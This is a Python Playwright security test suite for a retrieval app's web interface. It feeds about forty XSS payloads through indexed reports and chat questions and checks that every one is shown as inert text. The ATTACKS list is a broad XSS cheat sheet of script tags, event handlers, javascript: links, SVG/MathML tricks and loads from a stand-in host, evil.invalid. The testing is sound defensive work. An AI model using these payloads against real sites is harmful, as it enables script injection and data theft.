"""Reports and questions that attack whoever reads them: everything is shown as the text that it is, and nothing happens.

Each attack stands in a report's file name, title, heading, text and table, and is asked as well. A real Chromium looks at
them in every tab of the page, and at every address of ours that a tab leads to.
"""

import os
import re
import unicodedata
from html import escape
from urllib.parse import urlsplit

import pytest

from ingest.run import ingest
from rag.settings import Settings
from tests.ui.conftest import answers, end, free_port, start

expect = pytest.importorskip("playwright.sync_api", reason="playwright is not installed").expect
RUN, FAR = "window.__pwned=1", "http://evil.invalid"
ATTACKS = [
    f"<script>{RUN}</script>", f"<ScRiPt src={FAR}/a.js></sCrIpT>", f"</div></section></mark><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=\"{FAR}/a.png\" srcset=\"{FAR}/b.png 2x\">", f"\"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>", f"<svg><a xlink:href=\"javascript:{RUN}\"><text>눌러</text></a></svg>",
    f"<svg><image href=\"{FAR}/c.svg\"/><use href=\"{FAR}/d.svg#x\"/></svg>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<a href=\"javascript:{RUN}\">눌러</a>", f"<a href=\"{FAR}\" onmouseover={RUN} ping={FAR}/ping>눌러</a>",
    f"[여기](javascript:{RUN})", f"[여기](  jAvAsCrIpT&colon;{RUN})", f"[여기](data:text/html;base64,PHNjcmlwdD4=) [저기](vbscript:{RUN})",
    f"![그림]({FAR}/e.png) ![그림][r]\n\n[r]: {FAR}/f.png \"제목\"", f"[여기][1] [1] [^1]\n\n[1]: javascript:{RUN}\n[^1]: {FAR}/g",
    f"<{FAR}/h> {FAR}/i www.evil.invalid/j evil@evil.invalid", f"<form action={FAR}><input name=q autofocus onfocus={RUN}><button>보내</button></form>",
    f"<button formaction=\"javascript:{RUN}\">눌러</button><select onchange={RUN}><option>1</select>",
    f"<iframe src=\"{FAR}\" srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<object data={FAR}/k></object><embed src={FAR}/l>",
    f"<video poster={FAR}/m.png src={FAR}/n.mp4 onerror={RUN}></video><audio src={FAR}/o.mp3>",
    f"<style>@import url({FAR}/p.css); body{{display:none;background:url({FAR}/q.png)}}</style>",
    f"<p style=\"position:fixed;inset:0;background:url({FAR}/r.png)\">덮개</p>", f"<link rel=stylesheet href={FAR}/s.css><link rel=prefetch href={FAR}/t>",
    f"<meta http-equiv=refresh content=\"0;url={FAR}/u\"><base href=\"{FAR}/\">", f"<details open ontoggle={RUN}><summary>열기</summary></details>",
    f"<marquee onstart={RUN}>글</marquee><body onload={RUN}>", f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<img src=x onerror={RUN}\\> <!--><img src=x onerror={RUN}>-->", f"```html\n<img src=x onerror={RUN}>\n```", f"`<img src=x onerror={RUN}>` **굵게** ~~줄~~ # 제목",
    f"$$\\href{{javascript:{RUN}}}{{x}}\\includegraphics{{{FAR}/v.png}}$$ $\\htmlStyle{{color:red}}{{y}}$ \\(z\\)",
    f"| 가 | <img src=x onerror={RUN}> |\n|---|---|\n| [x](javascript:{RUN}) | ![]({FAR}/w.png) |", f"<details><summary>{RUN}</summary>\n\n![]({FAR}/x.png)\n\n</details>",
    "__i18n__{\"key\":\"send\"} __i18n__{\"key\":\"" + RUN + "\"}", f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} <%= {RUN} %> {{% raw %}} #{{{RUN}}}",
    f"{{{{#each x}}}}{{{{{{{RUN}}}}}}}{{{{/each}}}} {{value}} {{@html '<img src=x onerror={RUN}>'}}",
    "\u202e<gpj.tpircs\u202c \u2066가\u2069 \u200b<\u200bscript\u200b> \ufeff\u00ad\u2060글", f"<script\x0b>{RUN}</script\t> <img/src=x/onerror={RUN}> <\u0131mg src=x>",
    f"<template><script>{RUN}</script></template><noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<style><!--</style><img src=x onerror={RUN}>--> <xmp><img src=x onerror={RUN}></xmp> <textarea><img src=x onerror={RUN}>",
]
ISLANDS = [f"{name}섬" for name in ["고래", "나비", "다람쥐", "매화", "바위", "사슴", "소나무", "여우", "은하", "자두", "장미", "제비", "진달래", "참새", "철쭉", "토끼", "포도", "호박", "감나무", "갈매기", "거북", "국화", "기러기", "노루", "달팽이", "대나무", "도토리", "동백", "두루미", "딸기", "머루", "모란", "밤나무", "백로", "버들", "보리", "복숭아", "부엉이", "산딸기", "살구", "수달", "앵두", "해바라기", "오리"]]
assert len(ATTACKS) <= len(ISLANDS)
GROUPS = [range(start, min(start + 8, len(ATTACKS))) for start in range(0, len(ATTACKS), 8)]
# what the page must not hold beyond what gradio puts there itself, and what any address on it may lead to
LOOK = """own => {
  const found = [], allowed = ["data:", "blob:", "about:"], note = element => found.push(element.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll("*")) {
    if (element.closest("head") && !element.matches("meta, base")) continue;
    for (const {name, value} of element.attributes) {
      if (/^on/i.test(name) || ["srcset", "style", "ping"].includes(name) && /evil|__pwned/.test(value)) note(element);
      if (["src", "href", "xlink:href", "action", "formaction", "data", "poster", "background"].includes(name)) {
        const to = new URL(value, document.baseURI);
        if (to.host !== own && !allowed.includes(to.protocol)) note(element);
        if (to.protocol === "data:" && !element.matches("img, image")) note(element);
      }
    }
    if (element.matches("meta[http-equiv=refresh], object, embed, body base, marquee, math, xmp")
        || element.tagName === "STYLE" && /evil|@import|display:none/.test(element.textContent)) note(element);
  }
  for (const place of document.querySelectorAll("#sources, #chat .message"))
    place.querySelectorAll("script, img, form, iframe, style, svg, h1, strong, code, table, video, audio, input, .katex, link, template")
      .forEach(note);
  if (window.__pwned || getComputedStyle(document.body).display === "none") found.push("a script or a style of theirs");
  return [...found, ...(window.__violations || [])];
}"""
LINKS = """() => [...document.querySelectorAll("a[href], iframe[src]")].map(e => e.href || e.src)
  .filter(address => new URL(address, location).origin === location.origin)"""
NOTED = "window.__violations = []; addEventListener('securitypolicyviolation', event => window.__violations.push(event.blockedURI))"


def file_name(attack: str, number: int) -> str:
    """As much of an attack as a file system takes as a name."""
    name = re.sub(r"[/\x00-\x1f]", "∕", attack) if os.name != "nt" else ""
    return f"{number} {name.encode()[:200].decode(errors='ignore')}.html"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The address of a page over reports that attack."""
    folder, index = tmp_path_factory.mktemp("attacks"), tmp_path_factory.mktemp("attacked")
    for number, (island, attack) in enumerate(zip(ISLANDS, ATTACKS, strict=False), 100):
        said = escape(attack)
        (folder / file_name(attack, number)).write_text(
            f"<title>{island} 안내 {said}</title><h1>{island} 안내 {said}</h1><h2>{island} 개요 {said}</h2>"
            f"<p>{island}의 둘레는 {number}킬로미터이다 {said} 라고 적혀 있다.</p>"
            f"<table><tr><th>{island} 항목 {said}</th><th>값 {said}</th></tr><tr><td>인구 {said}</td><td>{number * 7}명 {said}</td></tr></table>",
            encoding="utf-8")
    tally = ingest(Settings(index=index), [folder])
    assert tally.added == len(ATTACKS) >= 40 and tally.failed == []
    port = free_port()
    process = start("--index", index, "--port", port)
    url = f"http://127.0.0.1:{port}"
    try:
        answers(url, process)
        yield url
    finally:
        end(process)


def harmless(page, own: str) -> None:
    for frame in page.frames:
        assert frame.evaluate(LOOK, own) == [], frame.url
        assert urlsplit(frame.url).netloc in (own, "") and frame.url != "about:srcdoc"
    assert page.troubles == [] and page.hosts - {""} == {own}  # "" is data: and blob:


def ask(page, question: str) -> None:
    """Ask in a new conversation and wait for the whole answer."""
    page.locator("#new").click()
    expect(page.locator("#chat .message")).to_have_count(0)
    page.locator("#box textarea").fill(question)
    page.locator("#send").click()
    expect(page.locator("#chat .bot.message a").first).to_be_visible(timeout=20_000)
    expect(page.locator("#send")).to_be_visible(timeout=20_000)


def squeezed(text: str) -> str:
    """Without white space, and without characters that have no shape, which readers take out."""
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) != "Cf")


@pytest.mark.parametrize("group", GROUPS, ids=lambda group: f"{group.start}-{group.stop - 1}")
def test_attacks_are_shown_and_do_nothing(visit, attacked, group):
    page, own = visit(attacked), urlsplit(attacked).netloc
    page.add_init_script(NOTED)
    page.reload()
    expect(page.locator("#status")).to_contain_text(str(len(ATTACKS)), timeout=30_000)
    for n in group:
        ask(page, f"{ISLANDS[n]}의 둘레는 얼마야?")
        expect(page.locator("#chat .bot.message").first).to_contain_text(f"{n + 100}킬로미터")
        shown = page.locator("#sources .set").last
        for place in (".passage", ".title", ".file"):
            text = squeezed(" ".join(shown.locator(place).all_inner_texts()))
            want = squeezed(file_name(ATTACKS[n], n + 100)) if place == ".file" else squeezed(ATTACKS[n])
            assert want in text or squeezed(ATTACKS[n].split("\n")[0]) in text, (place, ATTACKS[n])
        harmless(page, own)
        ask(page, f"{ATTACKS[n]} {ISLANDS[n]}의 인구는 몇 명이야?")
        asked = page.locator("#chat .user.message").first.inner_text()
        assert squeezed(ATTACKS[n]) in squeezed(asked)
        page.locator("#chat .bot.message a").first.click()
        harmless(page, own)
    assert page.url.split("#")[0] == f"{attacked}/"


def test_every_tab_and_all_that_it_leads_to_is_harmless(visit, attacked, chromium):
    page, own = visit(attacked), urlsplit(attacked).netloc
    page.add_init_script(NOTED)
    page.reload()
    expect(page.locator("#status")).to_contain_text(str(len(ATTACKS)), timeout=30_000)
    led: list[str] = []
    tabs = page.get_by_role("tab").all()
    assert len(tabs) >= 3
    ask(page, f"{ISLANDS[3]}의 둘레는 얼마야?")
    for tab in tabs:
        tab.click()
        page.wait_for_timeout(1000)
        harmless(page, own)
        led += [address for address in page.evaluate(LINKS) if address.split("#")[0] != f"{attacked}/"]
    for address in list(dict.fromkeys(led))[:len(ATTACKS) + 10]:
        answer = page.request.get(address)
        if "attachment" not in answer.headers.get("content-disposition", ""):  # a file is given to be kept, not to be run
            page.goto(address)
            harmless(page, own)


def test_the_look_sees_what_would_not_be_harmless(visit, attacked):
    """The same attacks, put onto the page unescaped."""
    page, own = visit(attacked), urlsplit(attacked).netloc
    put = "html => { delete window.__pwned; document.querySelector('#sources').innerHTML = html }"
    seen = 0
    for attack in ATTACKS:
        if "refresh" not in attack:  # it would be gone to another page
            page.evaluate(put, attack)
            seen += bool(page.evaluate(LOOK, own))
    assert seen >= 30
    page.evaluate(put, ATTACKS[3])
    page.wait_for_function("window.__pwned === 1")


def test_nothing_but_this_machine_is_asked_for_anything(visit, url):
    """Fonts, analytics, versions: also once the page is idle, and from its settings."""
    page, own = visit(url), urlsplit(url).netloc
    page.add_init_script(NOTED)
    page.reload()
    for tab in page.get_by_role("tab").all():
        tab.click()
        page.wait_for_timeout(500)
    page.goto(f"{url}/?view=settings")
    page.wait_for_timeout(1500)
    page.goto(f"{url}/?view=api")
    page.wait_for_timeout(1500)
    assert page.hosts - {""} == {own} and page.evaluate("window.__violations") == []
    far = page.evaluate("""() => [...document.querySelectorAll("link[rel]")].filter(l => /preconnect|dns-prefetch|stylesheet|preload|icon/.test(l.rel))
        .map(l => l.href).filter(a => new URL(a).origin !== location.origin)""")
    assert far == []


MIXED = """() => [...document.querySelectorAll("#chat .message p, #chat .message li, #sources .asked")].filter(block => {
  let open = 0;  // directions that a text opened and did not close before something of ours follows
  const walk = document.createTreeWalker(block, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
  while (walk.nextNode()) {
    const node = walk.currentNode;
    if (node.nodeType === 1) { if (node.matches("a") && open > 0) return true; continue; }
    if (node.parentElement.closest("a, bdi")) continue;
    for (const c of node.data) open = Math.max(0, open + (/[\\u202a\\u202b\\u202d\\u202e\\u2066-\\u2068]/.test(c) ? 1 : /[\\u202c\\u2069]/.test(c) ? -1 : 0));
  }
  return false;
}).map(block => block.textContent)"""


def test_text_that_turns_the_direction_turns_nothing_of_ours(visit, url):
    page = visit(url)
    turned = "\u202e\u2067한빛대교의 길이는 얼마야?"
    page.locator("#box textarea").fill(turned)
    page.locator("#box textarea").press("Enter")
    expect(page.locator("#chat .bot.message a").first).to_be_visible(timeout=20_000)
    expect(page.locator("#send")).to_be_visible(timeout=20_000)
    assert page.evaluate(MIXED) == []
